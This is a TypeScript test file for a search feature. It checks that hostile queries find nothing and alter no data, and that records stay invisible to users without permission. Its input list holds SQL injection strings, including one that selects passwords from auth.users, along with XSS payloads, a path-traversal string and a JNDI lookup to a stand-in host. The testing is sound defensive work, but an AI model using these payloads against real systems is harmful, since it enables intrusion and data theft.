/**
 * Tests that hostile input finds only what its words find, which is mostly nothing; and that a record stays unknown to
 * readers who may not see it.
 */
import { describe, expect } from "vitest";
import { templateKeys, templates } from "@product/domain/permissions/templates";
import type { Permission } from "@product/domain/permissions/catalogue";
import { usePlanning } from "#testing/planning.ts";
import { useReadyWorker } from "#testing/ready-worker.ts";
import { screens, searchSources } from "#slices.ts";
import { who } from "#testing/who.ts";
import { test } from "#testing/world.ts";
import { foundFor } from "./found.ts";
import { searchQuery } from "./schema.ts";

const { query, ready } = useReadyWorker();
const { event, shift } = usePlanning(query);
const owner = who([...templates.owner.permissions]);
const elsewhere = { kind: "entity", id: crypto.randomUUID() } as const;

const corpus = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE app.worker; --",
  '" OR ""="',
  "') UNION SELECT id, password FROM auth.users --",
  "1; SELECT pg_sleep(10)",
  "'||(SELECT version())||'",
  "$1 $2 ${q} #{q} {{q}}",
  "%' AND 1=1 AND '%'='",
  "%%%%%%%%",
  "_____",
  "\\",
  "\\\\' OR 1=1",
  "a\\",
  "a & b | !c:* <-> d",
  "((((((((((",
  ")))) [[[[ .*+?^$",
  "(a+)+$",
  "*".repeat(180),
  "role:' OR 1=1",
  "role:waiter' in:Bilbao') OR ('1'='1",
  "on:31/02/2026 in:%%%",
  "role: on: in:",
  "role:__proto__ in:constructor on:toString",
  "in:\u0000Bilbao",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "\u202Eevil\u202C \u200B\uFEFF",
  "\uD800 lone",
  "e\u0301".repeat(90),
  "../../etc/passwd",
  "${jndi:ldap://x.example/a}",
  "-1 OR 2+2=4",
  "NULL null undefined NaN",
  "😀".repeat(50),
  "libre el sábado' AND (SELECT count(*) FROM app.worker) > 0 --",
];

test("what is typed to harm is only words: it finds nobody, fails nowhere and changes nothing", async () => {
  const people = async () => (await query("SELECT count(*)::int AS n FROM app.worker")).rows[0];
  const before = await people();
  const finding: unknown[] = [];
  for (const q of corpus)
    for (const locale of ["en", "es"] as const) {
      const { groups } = await foundFor(owner, {
        q: searchQuery.parse({ q }).q,
        locale,
        screens,
        sources: searchSources,
      });
      if (groups.length > 0) finding.push([q, locale, groups]);
    }
  expect(finding).toEqual([]);
  expect(await people()).toEqual(before);
});

describe("who may not see a record", () => {
  const kinds: readonly [Permission, string][] = [
    ["worker.view", "zubiri"],
    ["event.view", "Verbena secreta"],
    ["shift.view", "Puerta secreta"],
  ];

  test("gets the same answer as if there were none, by every kind of it and in every role", async () => {
    const id = await event({ titleEs: "Verbena secreta" });
    await shift(id, { title: "Puerta secreta" });
    const secrets = [`${ready.id}`, "Zubiri", "Verbena secreta", "Puerta secreta", id];
    for (const [permission, q] of kinds) {
      expect(
        JSON.stringify(
          (await foundFor(who([permission]), { q, locale: "es", screens, sources: searchSources })).groups,
        ),
      ).toContain(q.slice(1));
      const everythingElse = templates.owner.permissions.filter((each) => !each.startsWith(permission.split(".")[0]!));
      const others = [
        who([]),
        who(everythingElse.filter((each) => !["document.view", "shift.view", "worker.view"].includes(each))),
        who([permission], elsewhere),
        ...templateKeys.map((key) => who([...templates[key].permissions], elsewhere)),
      ];
      for (const actor of others) {
        const { groups, question } = await foundFor(actor, { q, locale: "es", screens, sources: searchSources });
        const text = JSON.stringify([groups, question]);
        const unknown = await foundFor(actor, { q: "xyzzy plugh", locale: "es", screens, sources: searchSources });
        expect(
          secrets.filter((word) => text.includes(word)),
          `${permission} ${q}`,
        ).toEqual([]);
        expect(groups.map(({ kind }) => kind)).toEqual(unknown.groups.map(({ kind }) => kind));
      }
    }
  });
});
